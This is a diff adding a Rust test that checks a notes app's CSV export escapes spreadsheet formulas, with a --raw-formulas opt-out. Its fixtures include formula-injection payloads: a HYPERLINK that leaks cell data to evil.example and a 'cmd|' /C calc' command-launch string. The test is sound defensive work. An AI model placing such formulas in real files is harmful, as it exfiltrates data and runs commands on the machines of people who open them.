@@ -334,3 +334,79 @@ fn a_skipped_row_leaves_no_organization_behind() {
         .collect();
     assert_eq!(orgs, ["Good Corp"], "the bad row's organization was not created");
 }
+
+/// The cells of a CSV export (its byte-order mark dropped), by row.
+fn csv_rows(path: &std::path::Path) -> Vec<Vec<String>> {
+    let text = std::fs::read_to_string(path).unwrap();
+    let mut reader = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+    reader
+        .records()
+        .map(|r| r.unwrap().iter().map(String::from).collect())
+        .collect()
+}
+
+#[test]
+fn csv_exports_mark_formulas_as_text_unless_raw_formulas_is_given() {
+    let env = Env::init("personal");
+    env.add(
+        "notes",
+        &[
+            "title==HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")",
+            "text=@SUM(A1:A9)",
+        ],
+    );
+    env.add("notes", &["title=-2+3+cmd|' /C calc'!A0", "text=+44 20 7946 0018"]);
+    env.add("events", &["title=+Call", "duration_minutes=-5"]);
+    let safe = env.dir.path().join("notes.csv");
+    env.ok(&[
+        "export",
+        "notes",
+        "--columns",
+        "title,text",
+        "--out",
+        safe.to_str().unwrap(),
+    ]);
+    let mut rows = csv_rows(&safe).split_off(1);
+    rows.sort();
+    assert_eq!(
+        rows,
+        [
+            ["'-2+3+cmd|' /C calc'!A0", "+44 20 7946 0018"],
+            ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")", "'@SUM(A1:A9)"],
+        ],
+        "text a spreadsheet would run starts with a ', a phone number is left as it is"
+    );
+    let events = env.dir.path().join("events.csv");
+    env.ok(&[
+        "export",
+        "events",
+        "--columns",
+        "title,duration_minutes",
+        "--out",
+        events.to_str().unwrap(),
+    ]);
+    assert_eq!(
+        csv_rows(&events)[1],
+        ["'+Call", "-5"],
+        "a negative number is a number, not a formula"
+    );
+
+    let raw = env.dir.path().join("raw.csv");
+    env.ok(&[
+        "export",
+        "notes",
+        "--columns",
+        "title,text",
+        "--raw-formulas",
+        "--out",
+        raw.to_str().unwrap(),
+    ]);
+    let mut rows = csv_rows(&raw).split_off(1);
+    rows.sort();
+    assert_eq!(
+        rows[1],
+        ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")", "@SUM(A1:A9)"]
+    );
+}
